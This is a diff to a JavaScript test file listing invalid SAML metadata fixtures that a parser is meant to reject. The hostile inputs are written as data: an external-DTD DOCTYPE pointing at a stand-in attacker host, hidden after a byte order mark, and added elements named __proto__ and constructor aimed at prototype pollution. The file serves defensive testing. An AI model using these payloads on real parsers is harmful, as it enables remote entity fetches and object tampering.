@@ -682,9 +682,9 @@ const INVALID = [
   {
     file: 'doctype-after-bom-and-comment.xml',
     reason: 'dtd_forbidden',
-    shape: 'a lower-case doctype with an external subset, hidden after a byte order mark and a comment',
+    shape: 'a doctype with an external subset, hidden after a byte order mark and a comment',
     render() {
-      return '\uFEFF' + plainIdp({ decl: false }).replace('<md:EntityDescriptor', `<!-- metadata -->\n<!doctype md:EntityDescriptor SYSTEM "http://attacker.example.net/metadata.dtd">\n<md:EntityDescriptor`)
+      return '\uFEFF' + plainIdp({ decl: false }).replace('<md:EntityDescriptor', `<!-- metadata -->\n<!DOCTYPE md:EntityDescriptor SYSTEM "http://attacker.example.net/metadata.dtd">\n<md:EntityDescriptor`)
     },
   },
   {
@@ -711,6 +711,14 @@ const INVALID = [
         size += Buffer.byteLength(line)
       }
       return doc.replace('  </md:IDPSSODescriptor>', `${lines.join('')}  </md:IDPSSODescriptor>`)
+    },
+  },
+  {
+    file: 'proto-pollution.xml',
+    reason: 'not_xml',
+    shape: 'elements named __proto__ and constructor in Extensions, aimed at the object tree the parser builds',
+    render() {
+      return plainIdp().replace('<md:NameIDFormat>', `<md:Extensions><__proto__><polluted>yes</polluted></__proto__><constructor><prototype><polluted>yes</polluted></prototype></constructor></md:Extensions>\n    <md:NameIDFormat>`)
     },
   },
   {
@@ -742,7 +750,6 @@ const INVALID = [
       const decoy = `<md:EntityDescriptor xmlns:md="${NS_MD}" entityID="https://decoy.example.net/metadata"/>`
       return plainIdp().replace('<md:EntityDescriptor', `${decoy}\n<md:EntityDescriptor`)
     },
-  },
   },
   {
     file: 'empty.xml',
